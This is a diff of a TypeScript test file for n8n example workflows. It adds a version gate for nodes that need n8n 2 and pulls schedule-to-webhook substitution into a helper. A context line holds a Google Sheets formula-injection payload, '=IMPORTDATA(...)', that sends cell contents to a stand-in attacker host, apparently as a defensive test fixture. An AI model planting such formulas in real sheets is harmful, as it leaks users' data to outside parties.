@@ -25,6 +25,9 @@ import type { Workflow } from '../harness/workflows.mts';
 /** What an execution starts that has failed. */
 const WITHOUT_OUR_NODE = ['tell-what-failed'];
 
+/** Nodes of n8n's that n8n 1 has not: see suites/examplesOn2.mts. */
+const NEED_N8N_2 = ['agent-that-asks-first', 'new-posts-to-a-data-table'];
+
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
@@ -48,6 +51,14 @@ function triggerOf(workflow: Workflow): string {
 	return trigger.name;
 }
 
+/** The workflow as it runs once it is active: a call from outside stands in for its schedule. */
+export function scheduled(workflow: Workflow): Workflow {
+	const nodes = workflow.nodes.map((node) =>
+		node.type.endsWith('.scheduleTrigger') ? { ...webhook(randomUUID()), name: node.name } : node,
+	);
+	return { ...workflow, nodes };
+}
+
 /** Every workflow in examples/, imported and executed by n8n; the emulator is the only gateway. */
 export function testExamples(world: RegularMode): void {
 	async function run(workflow: Workflow, trigger = triggerOf(workflow)): Promise<Execution> {
@@ -56,14 +67,7 @@ export function testExamples(world: RegularMode): void {
 		return await executeWorkflow(rest, saved, trigger);
 	}
 
-	/** The workflow as it runs once it is active: a call from outside stands in for its schedule. */
-	function inProduction(workflow: Workflow): Workflow {
-		const ready = withAccounts(workflow, world.outside);
-		const nodes = ready.nodes.map((node) =>
-			node.type.endsWith('.scheduleTrigger') ? { ...webhook(randomUUID()), name: node.name } : node,
-		);
-		return { ...ready, nodes };
-	}
+	const inProduction = (workflow: Workflow) => scheduled(withAccounts(workflow, world.outside));
 
 	function bought(): LedgerEntry[] {
 		return world.emulator.ledger.filter(({ charged }) => charged > 0);
@@ -92,7 +96,8 @@ export function testExamples(world: RegularMode): void {
 			test(`${name} has nodes that this n8n has, and takes the credential by its name`, async () => {
 				const { rest, credentialId } = world;
 				const saved = await saveWorkflow(rest, example(name));
-				for (const { type, typeVersion } of saved.nodes) {
+				const isTooOld = world.version.major === 1 && NEED_N8N_2.includes(name);
+				for (const { type, typeVersion } of isTooOld ? [] : saved.nodes) {
 					assert.ok(known.get(type)?.includes(typeVersion), `n8n has no ${type} ${typeVersion}`);
 				}
 				const ours = saved.nodes.filter(({ type }) => /\.dataAccess(Trigger|Tool)?$/.test(type));
